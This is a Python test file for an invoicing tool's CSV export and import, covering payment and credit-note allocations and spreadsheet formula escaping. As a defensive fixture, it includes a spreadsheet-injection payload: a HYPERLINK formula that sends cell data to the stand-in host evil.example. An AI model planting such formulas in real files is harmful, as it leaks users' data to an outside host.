"""Issue #11, point 7: the export round-trips.

``export`` writes clients.csv, invoices.csv and payments.csv in the format ``import`` reads
(client codes and invoice numbers, never database ids), so that ``export`` then ``import
clients``, ``invoices``, ``payments`` into an empty book gives the same ``invoices --json`` and
``clients --json`` — paid and balance included, which needs the allocations of payments and
credit notes to specific invoices (the ``allocations`` column).  Text a spreadsheet would run
as a formula is written with a leading quote, which the import takes off again.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from models import Allocation, Client, Invoice, Payment
from services.book import export
from services.core import db
from services.ledger import imports
from services.ledger import invoices as invoice_service
from services.ledger import payments as payment_service
from tests.helpers_cli import TODAY, frozen_book_path, open_book, run_cli, write_csv
from tests.service_fixtures import add_client, add_credit_note, add_invoice, pay

#: ``proof`` says which signed documents are attached (shared/domain.md §8.2); documents are
#: exported as files (documents/) and attached again with ``attach``, not by a CSV import,
#: so the imported book has none.  Every other field of every row must be equal.
NOT_IN_THE_CSV_FILES = {"proof"}

EARLIER = dt.date(2025, 6, 30)

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'


@pytest.fixture
def book_a(tmp_path: Path) -> Iterator[Path]:
    yield from frozen_book_path(tmp_path)


def report(
    capsys: pytest.CaptureFixture[str], book: Path, what: str, on: dt.date
) -> dict[str, Any]:
    run = run_cli(capsys, book, what, "--json", "--date", on.isoformat())
    assert run.code == 0, run.err
    payload: dict[str, Any] = run.json()
    return payload


def comparable(payload: dict[str, Any], key: str) -> list[dict[str, Any]]:
    rows = payload[key]
    assert rows, key
    for row in rows:
        assert set(row) >= NOT_IN_THE_CSV_FILES or key == "clients"
    return [{k: v for k, v in row.items() if k not in NOT_IN_THE_CSV_FILES} for row in rows]


def export_and_import(capsys: pytest.CaptureFixture[str], book: Path, tmp_path: Path) -> Path:
    """``export --out`` from ``book``, then the three files imported into a new book B."""
    out = tmp_path / "export"
    run = run_cli(capsys, book, "export", "--out", str(out))
    assert run.code == 0, run.err
    other = tmp_path / "B.db"
    for kind in ("clients", "invoices", "payments"):
        run = run_cli(capsys, other, "import", kind, str(out / f"{kind}.csv"))
        assert run.code == 0, f"import {kind}: {run.err}"
        assert run.out.startswith("imported "), run.out
    return other


def assert_same_books(capsys: pytest.CaptureFixture[str], a: Path, b: Path, on: dt.date) -> None:
    for what in ("invoices", "clients"):
        left, right = report(capsys, a, what, on), report(capsys, b, what, on)
        assert left.keys() == right.keys()
        rows_a, rows_b = comparable(left, what), comparable(right, what)
        assert len(rows_a) == len(rows_b), what
        for row_a, row_b in zip(rows_a, rows_b, strict=True):
            assert row_a == row_b, f"{what} as of {on}"


def extra_cases(book: Path) -> dict[str, Any]:
    """What the demo lacks: a payment split over two invoices, one kept whole as credit, a
    credit note split over two invoices, one not applied, text that looks like a formula."""
    with open_book(book):
        add_client(
            "FORMULE",
            name=FORMULA_NAME,
            notes="-5 % accordés",
            contact="+33 6 12 34 56 78",
            city="@Lyon",
        )
        first = add_invoice("RT-001", "FORMULE", "2025-11-03", "1000.00", notes="=1+2")
        second = add_invoice("RT-002", "FORMULE", "2025-12-01", "800.00", po_number="-CDE-7")
        third = add_invoice("RT-003", "FORMULE", "2026-01-05", "500.00")
        pay(
            "FORMULE",
            "2026-01-20",
            "700.00",
            [(first.id, Decimal("400.00")), (second.id, Decimal("250.00"))],
            confirm=True,
            reference="+VIR 2026-01",
            method="virement",
        )
        pay("FORMULE", "2026-02-02", "90.00", [], confirm=True, reference="@acompte")
        credit = add_credit_note(
            "RT-AV1", "FORMULE", "2026-02-10", "300.00", notes="'=déjà échappé"
        )
        payment_service.apply_credit_note(credit.id, first.id, Decimal("120.00"))
        payment_service.apply_credit_note(credit.id, third.id, Decimal("80.50"))
        add_credit_note("RT-AV2", "FORMULE", "2026-02-12", "45.00")
        invoice_service.set_disputed(third.id, True)
        return {"first": first.number, "second": second.number, "third": third.number}


def test_the_demo_book_round_trips(
    book_a: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue #11, point 7: demo book A, exported, imported into an empty book B: the same
    invoices --json and clients --json, every field of every row (paid and balance included),
    today and as of an earlier date (the allocations keep their dates)."""
    run = run_cli(capsys, book_a, "demo", "--date", TODAY.isoformat())
    assert run.code == 0, run.err
    extra_cases(book_a)
    book_b = export_and_import(capsys, book_a, tmp_path)
    assert_same_books(capsys, book_a, book_b, TODAY)
    assert_same_books(capsys, book_a, book_b, EARLIER)
    # the cases the demo lacks did come through, not only an equal-looking total
    rows = {r["number"]: r for r in report(capsys, book_b, "invoices", TODAY)["invoices"]}
    assert (rows["RT-001"]["paid"], rows["RT-002"]["paid"], rows["RT-003"]["paid"]) == (
        "520.00",
        "250.00",
        "80.50",
    )
    assert (rows["RT-AV1"]["balance"], rows["RT-AV2"]["balance"]) == ("-99.50", "-45.00")
    assert rows["RT-003"]["disputed"] is True
    client = next(
        c for c in report(capsys, book_b, "clients", TODAY)["clients"] if c["code"] == "FORMULE"
    )
    # unallocated: 50.00 + 90.00 of the payments, 99.50 + 45.00 of the credit notes
    assert client["name"] == FORMULA_NAME and client["unallocated"] == "284.50"
    with open_book(book_b), db.reading() as s:  # the legal status comes through (issue #13)
        status = {
            code: (form, register)
            for code, form, register in s.execute(
                select(Client.code, Client.legal_form, Client.registered_as)
            )
        }
    assert status["SCITILLEULS"] == ("sci", "") and status["BOULMARTIN"] == ("ei", "artisan")
    assert status["SDCBELLECOUR"] == ("syndicat_copro", "")
    with open_book(book_b), db.reading() as s:  # 50.00 of the split payment, 90.00 kept whole
        allocations = s.execute(
            select(Invoice.number, Allocation.amount)
            .join(Invoice, Invoice.id == Allocation.invoice_id)
            .join(Payment, Payment.id == Allocation.payment_id)
            .where(Payment.reference == "+VIR 2026-01")
        ).all()
    assert sorted(allocations) == [("RT-001", Decimal("400.00")), ("RT-002", Decimal("250.00"))]


def test_a_taken_back_allocation_is_not_exported(
    book_a: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Only the allocations in force are written: a payment taken back from one invoice and
    set against another imports as set against the second (the history of the first stays
    in tables/allocations.csv)."""
    with open_book(book_a):
        add_client("ACME")
        first = add_invoice("F1", "ACME", "2026-01-05", "300.00")
        second = add_invoice("F2", "ACME", "2026-01-10", "200.00")
        payment = pay("ACME", "2026-02-01", "200.00", [(first.id, None)])
        (allocation,) = payment_service.allocations_of_payment(payment.id)
        payment_service.unallocate(allocation.id)
        payment_service.allocate(payment.id, second.id)
    book_b = export_and_import(capsys, book_a, tmp_path)
    assert_same_books(capsys, book_a, book_b, TODAY)
    rows = {r["number"]: r for r in report(capsys, book_b, "invoices", TODAY)["invoices"]}
    assert (rows["F1"]["paid"], rows["F2"]["paid"]) == ("0.00", "200.00")
    _, raw = read_csv(tmp_path / "export" / "tables" / "allocations.csv")
    assert len(raw) == 2 and sum(1 for r in raw if r["removed_on"]) == 1


# -- spreadsheet safety -------------------------------------------------------------------


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        return list(reader.fieldnames or []), list(reader)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x")',
        "+33 6",
        "-5 %",
        "@SUM(A1)",
        "\tTab",
        "\rCR",
        "=",
        "-120.00",
        "'=already quoted",
        "''+twice",
        "'plain quote",
        "'",
        "''",
        "plain",
        "",
        "a=b",
        "O'Brien",
    ],
)
def test_escaping_and_unescaping_are_inverse(text: str) -> None:
    """Issue #11, point 7: what the export writes with a leading quote, the import reads back
    as it was — a quote of the original text included (no text is ever changed)."""
    written = export.spreadsheet_safe(text)
    assert imports.spreadsheet_text(written) == text
    runs_as_formula = written[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert not runs_as_formula


def test_text_cells_are_escaped_and_amounts_are_not(book_a: Path, tmp_path: Path) -> None:
    """Cells beginning with = + - @ tab or CR are text for a spreadsheet, in the importable
    files and in tables/; amounts and dates stay numbers (no quote), and come back exact."""
    extra_cases(book_a)
    with open_book(book_a):
        export.export(tmp_path / "export")
    out = tmp_path / "export"
    _, clients = read_csv(out / "clients.csv")
    (formule,) = [c for c in clients if c["code"] == "FORMULE"]
    assert formule["name"] == "'" + FORMULA_NAME
    assert (formule["notes"], formule["contact"], formule["city"]) == (
        "'-5 % accordés",
        "'+33 6 12 34 56 78",
        "'@Lyon",
    )
    _, invoices = read_csv(out / "invoices.csv")
    rows = {r["number"]: r for r in invoices}
    assert rows["RT-001"]["notes"] == "'=1+2" and rows["RT-002"]["po_number"] == "'-CDE-7"
    assert rows["RT-AV1"]["notes"] == "''=déjà échappé"
    assert (rows["RT-AV1"]["total"], rows["RT-AV1"]["kind"]) == ("300.00", "credit_note")
    assert rows["RT-AV1"]["allocations"] == "RT-001=120.00;RT-003=80.50"
    assert rows["RT-003"]["disputed"] == "yes" and rows["RT-001"]["disputed"] == ""
    _, payments = read_csv(out / "payments.csv")
    refs = {r["reference"]: r for r in payments}
    assert refs["'+VIR 2026-01"]["allocations"] == "RT-001=400.00;RT-002=250.00"
    assert refs["'@acompte"]["allocations"] == "none"
    for path in [
        out / "clients.csv",
        out / "invoices.csv",
        out / "payments.csv",
        *sorted((out / "tables").glob("*.csv")),
    ]:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                bad = [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
                assert bad == [], path.name
    _, raw = read_csv(out / "tables" / "clients.csv")
    (formule,) = [c for c in raw if c["code"] == "FORMULE"]
    assert formule["name"] == "'" + FORMULA_NAME


# -- the import side: the columns the round trip needs -------------------------------------


@pytest.fixture
def small_book(book_a: Path) -> Iterator[Path]:
    with open_book(book_a):
        add_client("ACME")
        add_client("OTHER")
        add_invoice("F1", "ACME", "2026-01-05", "300.00")
        add_invoice("F2", "ACME", "2026-01-10", "200.00")
        add_invoice("G1", "OTHER", "2026-01-10", "50.00")
    yield book_a


def paid(book: Path) -> dict[str, str]:
    with open_book(book), db.reading() as s:
        return {
            number: f"{allocated:.2f}"
            for number, allocated in s.execute(
                select(Invoice.number, Invoice.allocated).order_by(Invoice.number)
            )
        }


def imported(
    capsys: pytest.CaptureFixture[str], book: Path, tmp_path: Path, kind: str, text: str
) -> Any:
    return run_cli(capsys, book, "import", kind, str(write_csv(tmp_path / f"{kind}.csv", text)))


def test_payments_with_allocations(
    small_book: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``allocations``: exactly these invoices and amounts, the rest kept as credit; ``none``
    keeps it all as credit; an empty cell keeps the old rule (oldest due first)."""
    run = imported(
        capsys,
        small_book,
        tmp_path,
        "payments",
        "date,client,amount,imputations\n"
        '2026-02-01,ACME,150,"F2=100.00 ; F1=20,50"\n'
        "2026-02-02,ACME,80,aucune\n"
        "2026-02-03,OTHER,10,\n",
    )
    assert run.code == 0, run.err
    assert paid(small_book) == {"F1": "20.50", "F2": "100.00", "G1": "10.00"}
    with open_book(small_book), db.reading() as s:
        unallocated = [
            p.amount - p.allocated for p in s.scalars(select(Payment).order_by(Payment.id))
        ]
    assert unallocated == [Decimal("29.50"), Decimal("80.00"), Decimal("0.00")]


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        ("F9=10.00", "F9"),  # no such invoice
        ("G1=10.00", "belongs to another client"),
        ("F1=310.00", "only 300.00 is left to pay on the invoice F1"),
        ("F1=150.00;F1=151.00", "only 150.00 is left to pay on the invoice F1"),
        ("F1=100.00;F2=100.01", "only 200.00 is left to allocate"),
        ("F1", "not a list of invoices with amounts"),
        ("F1=abc", "'abc' is not an amount"),
        ("F1=0", "greater than zero"),
    ],
)
def test_bad_allocations_are_refused_with_the_line(
    small_book: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], cell: str, reason: str
) -> None:
    before = paid(small_book)
    run = imported(
        capsys,
        small_book,
        tmp_path,
        "payments",
        f'date,client,amount,allocations\n2026-02-01,ACME,200,"{cell}"\n',
    )
    assert run.code == 1
    assert any(
        line.startswith("line 2: allocations: ") and reason in line for line in run.err_lines
    ), run.err
    assert paid(small_book) == before


def test_an_invoice_and_allocations_together_are_refused(
    small_book: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = imported(
        capsys,
        small_book,
        tmp_path,
        "payments",
        "date,client,amount,invoice,allocations\n2026-02-01,ACME,20,F1,F1=20\n",
    )
    assert run.code == 1 and "line 2: allocations: give either an invoice" in run.err


def test_credit_notes_with_allocations_and_disputed(
    small_book: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A credit note is set against invoices already in the book or on an earlier line;
    ``disputed`` (``litige``) takes yes/no, oui/non, 1/0; an invoice row may not carry
    allocations."""
    run = imported(
        capsys,
        small_book,
        tmp_path,
        "invoices",
        "number,client,issue_date,total,kind,litige,imputé sur\n"
        "F3,ACME,2026-02-01,90.00,facture,oui,\n"
        "AV1,ACME,2026-02-05,100.00,avoir,,F1=30.00;F3=70\n"
        "AV2,ACME,2026-02-06,5.00,avoir,non,\n",
    )
    assert run.code == 0, run.err
    assert paid(small_book) == {
        "AV1": "100.00",
        "AV2": "0.00",
        "F1": "30.00",
        "F2": "0.00",
        "F3": "70.00",
        "G1": "0.00",
    }
    with open_book(small_book):
        assert invoice_service.get_invoice_by_number("F3").disputed is True
        assert invoice_service.get_invoice_by_number("F1").disputed is False
    run = imported(
        capsys,
        small_book,
        tmp_path,
        "invoices",
        "number,client,issue_date,total,kind,disputed,allocations\n"
        "F4,ACME,2026-02-01,90.00,invoice,maybe,\n"
        "F5,ACME,2026-02-01,90.00,invoice,,F1=10\n"
        "AV3,ACME,2026-02-01,10.00,credit_note,,F6=10\n"
        "F6,ACME,2026-02-01,10.00,invoice,,\n",
    )
    assert run.code == 1
    errors = run.err_lines
    assert any(e.startswith("line 2: disputed: 'maybe' is neither yes nor no") for e in errors)
    assert any(e.startswith("line 3: allocations: only a credit note") for e in errors)
    assert any(e.startswith("line 4: allocations: ") and "F6" in e for e in errors), errors
